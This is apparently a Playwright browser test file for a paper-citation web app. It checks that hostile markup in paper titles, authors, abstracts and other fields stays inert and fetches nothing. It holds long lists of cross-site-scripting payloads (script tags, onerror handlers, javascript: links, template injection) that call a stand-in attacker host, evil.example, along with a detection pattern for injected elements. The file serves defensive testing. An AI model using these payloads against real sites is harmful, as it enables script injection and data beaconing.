"""Promise: HTML, markdown and LaTeX in papers are inert in the page, and nothing is fetched for them.

Papers with a payload in every field are shown in a real browser, their abstracts and BibTeX opened. No
dialog, no script, no element of theirs, no window, and no request to anything but the page itself. That
holds by the page's own hand: its Content-Security-Policy, the second wall, has nothing to refuse.
"""

import json
import shutil
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from page_client import PATIENCE, Served, serving
from page_corpus import PAYLOADS
from proof import Proof

from indexer.build import build
from model.encoder import Encoder

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Page

pytest_plugins = ["page_client", "proof"]

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
)  # fmt: skip

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium on the PATH"),
]

RARE = "quokka"  # in every paper, so that one search shows them all
EVIL = "http://evil.example"
SCRIPTS = (
    "alert(1)", f"fetch('{EVIL}/f')", f"new Image().src='{EVIL}/i'", f"location='{EVIL}/l'",
    "window.pwned=1", f"import('{EVIL}/m')",
)  # fmt: skip
CARRIERS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<body onload={}>",
    "<a href=javascript:{}>x</a>", "<iframe srcdoc='<script>{}</script>'>",
    "<input autofocus onfocus={}>", "<details open ontoggle={}>x</details>", "<marquee onstart={}>",
    "<video><source onerror={}></video>", "<math><a xlink:href=javascript:{}>x</a></math>",
    "[x](javascript:{})", "[x](data:text/html,<script>{}</script>)", "![x](x\" onerror=\"{})",
    "<javascript:{}>", "$\\href{{javascript:{}}}{{x}}$", "$$\\htmlData{{a={}}}{{x}}$$", "`{}`",
    "&lt;script&gt;{}&lt;/script&gt;", "\"><script>{}</script>", "'-{}-'",
    "{{{{constructor.constructor('{}')()}}}}", "<style>@import '{}'</style>",
    "<form action=javascript:{}><button>x</button></form>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
)  # fmt: skip
FETCHING = (
    f"![x]({EVIL}/a.png)", "![x](//evil.example/b.png)", f"<img src={EVIL}/c.png>",
    f"<link rel=stylesheet href={EVIL}/d.css>", f"<style>body{{background:url({EVIL}/e.png)}}</style>",
    f"<iframe src={EVIL}/f></iframe>", f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/g'>", f"<script src={EVIL}/h.js></script>",
    f"<audio src={EVIL}/i autoplay>", f"<video poster={EVIL}/j.png>", f"<object data={EVIL}/k>",
    f"<embed src={EVIL}/l>", f"<svg><image href={EVIL}/m></svg>", f"<input type=image src={EVIL}/n>",
    f"<table background={EVIL}/o>", f"<div style=\"background:url('{EVIL}/p')\">x</div>",
    f"$\\includegraphics{{{EVIL}/q.png}}$", f"$$\\url{{{EVIL}/r}}$$", f"<{EVIL}/s>", f"{EVIL}/t",
    "www.evil.example/u", f"[x]: {EVIL}/v", f"[![x]({EVIL}/w.png)]({EVIL}/w)",
    f"<picture><source srcset={EVIL}/x></picture>", f"<link rel=dns-prefetch href={EVIL}>",
    f"<link rel=preload as=image href={EVIL}/y>", f"<a ping={EVIL}/z href=#>x</a>",
    f":material/home: ![]({EVIL}/1)", f":red[![]({EVIL}/2)]", f"| a |\n|---|\n| ![]({EVIL}/3) |",
    f"# ![]({EVIL}/4)",
)  # fmt: skip
# Elements and attributes in the page's body that only a paper's text could have made.
INJECTED = """main => [...main.querySelectorAll('*')].filter(e =>
    e.matches('script,img,iframe,object,embed,video,audio,base,meta,link,style,details,math,marquee,' +
              'form form,table,picture,input[type=image],.katex') && !e.closest('button')
    || [...e.attributes].some(a => /^on/.test(a.name)
        || ['href', 'src', 'action', 'data', 'srcset', 'ping', 'style', 'poster'].includes(a.name)
           && /javascript:|evil|data:text/i.test(a.value)))
    .map(e => e.outerHTML.slice(0, 200))"""


def payloads(count: int) -> list[str]:
    """So many payloads, all different: those of the page's tests, what fetches, and what runs."""
    running = (carrier.format(script) for script, carrier in product(SCRIPTS, CARRIERS))
    every = list(dict.fromkeys((*PAYLOADS, *FETCHING, *running)))
    step = max(1, len(every) // count)
    return every[::step][:count] if count < 100 else every[:count]


def hostile_paper(number: int, payload: str) -> dict[str, Any]:
    return {
        "id": f"acl:P18-1{number:03}"
        if number % 2
        else f"arxiv:1801.0{number:04}](javascript:alert({number}))",
        "title": f"{payload} {number}",
        "authors": [payload, "Mallory"],
        "venue": payload,
        "year": 2018,
        "doi": payload,
        "categories": [payload],
        "abstract": f"{RARE} {payload}",
    }


@pytest.fixture(scope="module")
def window() -> "Iterator[BrowserContext]":
    with sync_api.sync_playwright() as started:
        chromium = started.chromium.launch(
            executable_path=CHROMIUM, args=list(FLAGS), timeout=PATIENCE * 1000
        )
        context = chromium.new_context()
        context.set_default_timeout(PATIENCE * 1000)
        yield context
        chromium.close()


def watched(page: "Page", home: str) -> list[str]:
    """What happens in the page that no paper may cause."""
    faults: list[str] = []

    def dialog(seen: Any) -> None:
        faults.append(f"dialog {seen.message}")
        seen.dismiss()

    def request(seen: Any) -> None:
        if not seen.url.startswith((home + "/", home.replace("http", "ws") + "/", "data:", "blob:" + home)):
            faults.append(f"request to {seen.url}")

    def console(seen: Any) -> None:
        if "Content Security Policy" in seen.text and "inline script" not in seen.text:
            faults.append(f"refused by the policy: {seen.text[:200]}")

    page.on("dialog", dialog)
    page.context.on("request", request)
    page.on("console", console)
    page.on("pageerror", lambda error: faults.append(f"script error {error}"))
    page.on("popup", lambda popup: faults.append(f"new window {popup.url}"))
    page.on(
        "framenavigated", lambda frame: faults.append(frame.url) if not frame.url.startswith(home) else None
    )
    return faults


def at_rest(page: "Page") -> None:
    """Wait until the server has nothing more to say."""
    rest = page.locator("[data-testid=stApp][data-test-script-state=notRunning]")
    sync_api.expect(rest).to_be_visible(timeout=PATIENCE * 1000)
    sync_api.expect(page.locator("[data-stale=true]")).to_have_count(0, timeout=PATIENCE * 1000)


@pytest.mark.parametrize("count", [12, pytest.param(200, marks=pytest.mark.faults)])
def test_payload_papers_are_inert(
    count: int, tiny: Encoder, window: "BrowserContext", tmp_path: Path, proof: Proof
) -> None:
    papers = [hostile_paper(number, payload) for number, payload in enumerate(payloads(count))]
    assert len(papers) == count
    corpus = tmp_path / "papers.jsonl"
    corpus.write_text("".join(json.dumps(paper) + "\n" for paper in papers), encoding="utf-8")
    build(str(corpus), tmp_path / "index", tiny)
    with serving(
        tmp_path / "index", tmp_path / "log", CITEMARK_K=str(count), CITEMARK_RANKING="bm25"
    ) as served:
        page = window.new_page()
        faults = watched(page, served.address)
        page.goto(served.address)
        page.get_by_role("textbox", name="Your text").fill(f"The {RARE} [CITE].")
        page.get_by_role("button", name="Find papers").click()
        toggles = page.get_by_test_id("stMain").get_by_test_id("stCheckbox").locator("label")
        sync_api.expect(toggles.nth(count - 1)).to_be_visible(timeout=PATIENCE * 1000)
        at_rest(page)
        for toggle in toggles.all():
            toggle.click()
        at_rest(page)
        assert page.get_by_test_id("stMain").inner_text().count(RARE) >= count  # the abstracts are open
        assert page.evaluate("window.pwned === undefined")
        assert page.locator("[data-testid=stMain]").evaluate(INJECTED) == []
        assert page.url.partition("?")[0].rstrip("/") == served.address  # the query stands in the address
        page.close()
    for paper in papers:
        proof.check(not faults, paper["title"])
    assert faults == []
    proof.note = "no dialog, no script, no element of theirs, no request but to the page"
    proof.end("HTML, markdown, LaTeX in papers", count)


def test_the_policy_refuses_what_would_get_through(page: Served, window: "BrowserContext") -> None:
    """The second wall, and the watch: markup that somehow came into the page runs and fetches nothing."""
    tab = window.new_page()
    faults = watched(tab, page.address)
    tab.goto(page.address)
    beacon = f"<img src={EVIL}/x.png onerror='window.pwned=1'>"
    tab.evaluate("markup => document.body.insertAdjacentHTML('beforeend', markup)", beacon)
    tab.wait_for_timeout(500)
    assert tab.evaluate("window.pwned === undefined")
    assert any("refused by the policy" in fault and "evil.example" in fault for fault in faults)
    tab.close()
